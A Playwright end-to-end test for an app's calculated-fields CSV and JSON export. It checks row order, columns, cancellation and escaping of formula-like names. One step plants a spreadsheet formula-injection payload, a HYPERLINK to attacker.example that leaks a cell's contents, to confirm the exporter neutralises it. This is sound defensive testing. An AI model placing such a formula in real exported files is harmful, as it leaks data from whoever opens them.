import type { Route } from '@playwright/test';
import { e2eUrl } from '../../playwright.config';
import type { SearchResultItem } from '../../src/contract/field';
import type { SearchFilter, SearchResponse } from '../../src/contract/search';
import { expect, test } from '../support/bulk-fixtures';
import { ExportMenu } from '../support/export-menu';
import { parseCsv } from '../support/parse-csv';

test.use({ baseURL: e2eUrl('isolated') });

const header = [
  'ID',
  'Name',
  'Owner',
  'Owner ID',
  'Locked',
  'Status',
  'Status reason',
  'Findings',
  'Archived',
  'Variable',
  'Created',
  'Last modified',
  'Expression',
  'Data sources',
  'Data source IDs',
  'Cards',
  'Card IDs',
  'Link validity',
];
const column = (name: string) => header.indexOf(name);

// One journey on one load of the app; after the first step each step shows its view
// inside the app (bench/results/test-suite.md).
test('exports: every match in the table order, a formula as text, progress and cancel', async ({
  fieldsPage,
  exportMenu,
  api,
}) => {
  await test.step('CSV and JSON hold every match of the filters, in the table order', async () => {
    // Invalid fields, newest first: a filter and a sort other than the defaults.
    const filters: SearchFilter[] = [{ field: 'invalid' }, { field: 'notvariable' }];
    const { totalHits } = await api.search({ filters, limit: 1 });
    expect(totalHits).toBeGreaterThan(50);
    await fieldsPage.goto('?invalid=true&sort=-created');
    await expect(
      fieldsPage.page.getByText(`${totalHits.toLocaleString('en-US')} matching`),
    ).toBeVisible();
    const shownNames = await fieldsPage.names();

    const csvDownload = await exportMenu.download('csv');
    expect(csvDownload.suggestedFilename()).toMatch(/^calculated-fields-\d{4}-\d{2}-\d{2}\.csv$/);
    const rows = parseCsv(await ExportMenu.text(csvDownload));
    expect(rows[0]).toEqual(header);
    const records = rows.slice(1);
    expect(records).toHaveLength(totalHits);
    expect(new Set(records.map((row) => row[0])).size).toBe(totalHits);
    expect(records.every((row) => row[column('Status')] !== 'VALID')).toBe(true);
    // Each invalid field says why, has its expression, and its owner by name.
    expect(records.every((row) => row[column('Status reason')] !== '')).toBe(true);
    expect(records.every((row) => row[column('Expression')] !== '')).toBe(true);
    expect(records.every((row) => row[column('Owner')] !== '')).toBe(true);
    // The latest scan's findings, asked for a page of fields at a time: every one is Invalid.
    expect(records.every((row) => row[column('Findings')]!.includes('Invalid'))).toBe(true);
    expect(records.slice(0, shownNames.length).map((row) => row[1])).toEqual(shownNames);
    const created = records.map((row) => Date.parse(row[column('Created')]!));
    expect(created).toEqual([...created].sort((a, b) => b - a));

    const jsonDownload = await exportMenu.download('json');
    expect(jsonDownload.suggestedFilename()).toMatch(/^calculated-fields-\d{4}-\d{2}-\d{2}\.json$/);
    const items = JSON.parse(await ExportMenu.text(jsonDownload)) as SearchResultItem[];
    expect(items).toHaveLength(totalHits);
    expect(items.map((item) => String(item.id))).toEqual(records.map((row) => row[0]));
    expect(Object.keys(items[0]!).sort()).toEqual(
      [
        'activeLinks',
        'archived',
        'cards',
        'created',
        'dataSources',
        'dataType',
        'expression',
        'findings',
        'global',
        'id',
        'lastModified',
        'legacyId',
        'links',
        'locked',
        'name',
        'owner',
        'ownerName',
        'status',
        'statusReason',
        'variable',
      ].sort(),
    );
  });

  await test.step('a name that would run as a formula is exported as text', async () => {
    // The demo names never start with = + - @, so the server's answer gets one.
    const [target] = (
      await api.search({ filters: [{ field: 'notvariable' }], limit: 1, offset: 7 })
    ).results;
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
    const withFormula = async (route: Route) => {
      const response = await route.fetch();
      const page = (await response.json()) as SearchResponse;
      for (const item of page.results) if (item.id === target!.id) item.name = formula;
      await route.fulfill({ response, json: page });
    };
    await fieldsPage.page.route('**/functions/search', withFormula);
    await fieldsPage.showInApp(`?q=${encodeURIComponent(target!.name)}`);

    const download = await exportMenu.download('csv');

    const text = await ExportMenu.text(download);
    expect(text).toContain(
      `${target!.id},"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open"")"`,
    );
    const row = parseCsv(text).find((cells) => cells[0] === String(target!.id));
    expect(row?.[1]).toBe(`'${formula}`);
    await fieldsPage.page.unroute('**/functions/search', withFormula);
  });

  await test.step('an export shows its progress and can be cancelled', async () => {
    await fieldsPage.showInApp('');
    let downloads = 0;
    fieldsPage.page.on('download', () => (downloads += 1));
    let release: () => void = () => {};
    const released = new Promise<void>((resolve) => (release = resolve));
    await fieldsPage.page.route('**/functions/search', async (route) => {
      if ((route.request().postDataJSON() as { limit: number }).limit === 5000) await released;
      await route.continue();
    });

    await exportMenu.button.click();
    await exportMenu.item('csv').click();

    await expect(exportMenu.progressText).toHaveText('Exporting: gathering fields…');
    await expect(exportMenu.progress).toHaveAttribute('aria-valuenow', '0');
    await exportMenu.cancelButton.click();
    await expect(exportMenu.progressText).toBeHidden();
    await expect(exportMenu.progress).toHaveCount(0);
    release();
    await fieldsPage.page.waitForTimeout(500);
    expect(downloads).toBe(0);
  });
});
